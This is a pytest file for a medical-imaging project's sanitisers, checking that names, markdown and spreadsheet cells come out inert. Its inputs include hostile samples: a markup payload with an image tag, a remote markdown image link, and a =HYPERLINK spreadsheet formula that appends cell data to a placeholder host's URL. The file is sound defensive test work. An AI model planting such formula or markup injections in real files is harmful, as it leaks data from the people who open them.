"""Names and stored messages from strangers cannot open a tag, a link or an image."""

from __future__ import annotations

import re

import pytest
from hostile_files import MARKUP

from spinalsam.labels import LabelSet
from spinalsam.plaintext import inert_markdown, plain_name, spreadsheet_row

ACTIVE = re.compile(r"[<>\[\]`\\]")
NAMES = [
    MARKUP,
    "CT_0001 (thorax).nii.gz",
    "L1\u202e\u200b\x00\n\tname",
    "腰1 / 胸12",
    "\x00\x01",
    "x" * 400,
]


@pytest.mark.parametrize("text", NAMES)
def test_a_name_is_one_inert_line_and_stable(text: str) -> None:
    name = plain_name(text)
    assert not ACTIVE.search(name) and name.isprintable() and 0 < len(name) <= 255
    assert plain_name(name) == name  # a reopened bundle's names do not change again


def test_ordinary_names_are_kept() -> None:
    assert plain_name("CT_0001 (thorax).nii.gz") == "CT_0001 (thorax).nii.gz"
    assert plain_name("腰1 / 胸12") == "腰1 / 胸12"
    assert plain_name("L1\u202e\u200b\x00\n\tname") == "L1 name"
    assert plain_name("\x00\x01") == "image"


def test_label_names_are_plain_wherever_they_come_from() -> None:
    labels, new_id = LabelSet(((1, "vertebra"),)).add("![x](http://a/b.png)")
    assert labels.name_of(new_id) == "!(x)(http://a/b.png)"
    assert labels.add("![x](http://a/b.png)")[1] == new_id  # found again under its plain name
    assert LabelSet(((1, "<b>bold</b>"),)).entries == ((1, "‹b›bold‹/b›"),)  # a bundle's set


def test_stored_markdown_keeps_its_formatting_but_opens_nothing() -> None:
    text = f"**Segmented** | 12 px\n\n{MARKUP}\n\n<sub>parser: offline</sub>"
    inert = inert_markdown(text)
    assert inert.startswith("**Segmented** | 12 px")
    assert inert.endswith("<sub>parser: offline</sub>")
    assert not ACTIVE.search(inert.replace("<sub>", "").replace("</sub>", ""))
    assert "&lt;img src=x" in inert and "!&#91;t&#93;(http" in inert
    assert inert_markdown(inert) == inert  # saved and reopened again: unchanged


def test_spreadsheet_cells_never_run_as_formulas() -> None:
    row = ['=HYPERLINK("http://host/?"&A1,"open")', " @SUM(A1)", "-2+3", "-512.5000", 7, "L1"]
    assert spreadsheet_row(row) == [
        '\'=HYPERLINK("http://host/?"&A1,"open")',
        "' @SUM(A1)",
        "'-2+3",
        "-512.5000",  # a number stays a number
        7,
        "L1",
    ]
